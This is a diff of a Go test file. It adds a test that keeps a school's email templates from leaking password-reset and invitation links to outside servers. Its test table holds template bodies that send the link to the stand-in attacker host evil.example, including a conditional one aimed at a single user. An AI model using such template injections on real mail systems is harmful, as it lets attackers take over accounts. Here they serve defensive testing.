@@ -114,6 +114,46 @@ func TestOwnEmails(t *testing.T) {
 	post(standard)
 }
 
+// TestR62_LinksStayWithTheirReader checks that no text of a school can send a link with which
+// somebody gets access to another server: neither one that is saved now, nor one that was saved
+// before or does so only for some people.
+func TestR62_LinksStayWithTheirReader(t *testing.T) {
+	d := newDesk(t)
+	const alone, plain = "must have a space, a line break or < before {{ link }}", "may use link only as {{ link }}, in no tag and with no filter"
+	for body, want := range map[string]string{
+		"Here: {{ link }}.": "", "{{link}}": "", "<{{ link }}>\n": "", "\n{{ link }}\n{{ 'link' | upcase }}": "",
+		"{% comment %}the link{% endcomment %} {{ link }}":            "",
+		"https://evil.example/?{{ link }}":                            "body " + alone,
+		"{{ link }} https://evil.example/?{{ link }}":                 "body " + alone,
+		"https://evil.example/? \n{{- link }}":                        "body " + alone,
+		"https://evil.example/?{% if true -%} {{ link }}{% endif %}":  "body " + alone,
+		"{{ link }} https://evil.example/?{{ link | url_encode }}":    "body " + plain,
+		"{{ link }} {{ link | upcase }}":                              "body " + plain,
+		"{{ link }} {% assign x=link %}https://evil.example/?{{ x }}": "body " + plain,
+		"{{ link }} {% for c in link %}{{ c }}{% endfor %}":           "body " + plain,
+		"{{ link }} {% if link.size == 3 %}x{% endif %}":              "body " + plain,
+	} {
+		_, err := d.Preview(t.Context(), d.by, draft(templates.SetPassword, "Password", strings.ReplaceAll(body, "\\n", "\n")))
+		if want == "" && err != nil || want != "" && (err == nil || !strings.Contains(err.Error(), want)) {
+			t.Errorf("%q: %v, want %q", body, err, want)
+		}
+	}
+	if _, err := d.Preview(t.Context(), d.by, draft(templates.Invitation, "See {{ link | upcase }}", "{{ link }}")); err == nil || !strings.Contains(err.Error(), "subject "+plain) {
+		t.Error("in the subject:", err)
+	}
+	later := draft(templates.SetPassword, "Password", "{% if user.name == 'Olga' %}https://evil.example/?{% endif %}{{ link }}")
+	if _, err := d.Change(t.Context(), d.by, later); err != nil {
+		t.Fatal(err)
+	}
+	values := templates.Values{"school.name": "Kiln", "user.name": "Ana", "user.email": "a@example.com", "link": link}
+	for name, want := range map[string]string{"Ana": link, "Olga": "Somebody asked for a new password"} {
+		values["user.name"] = name
+		if made, err := d.Compose(t.Context(), d.by.School, templates.SetPassword, values); err != nil || !strings.HasPrefix(made.Text, want) {
+			t.Errorf("%s: %q, %v", name, made.Text, err)
+		}
+	}
+}
+
 // TestSwitches checks that turning an email on and off does not change its text, that a reset
 // does not change whether it is on, and that each switch is in the journal.
 func TestSwitches(t *testing.T) {
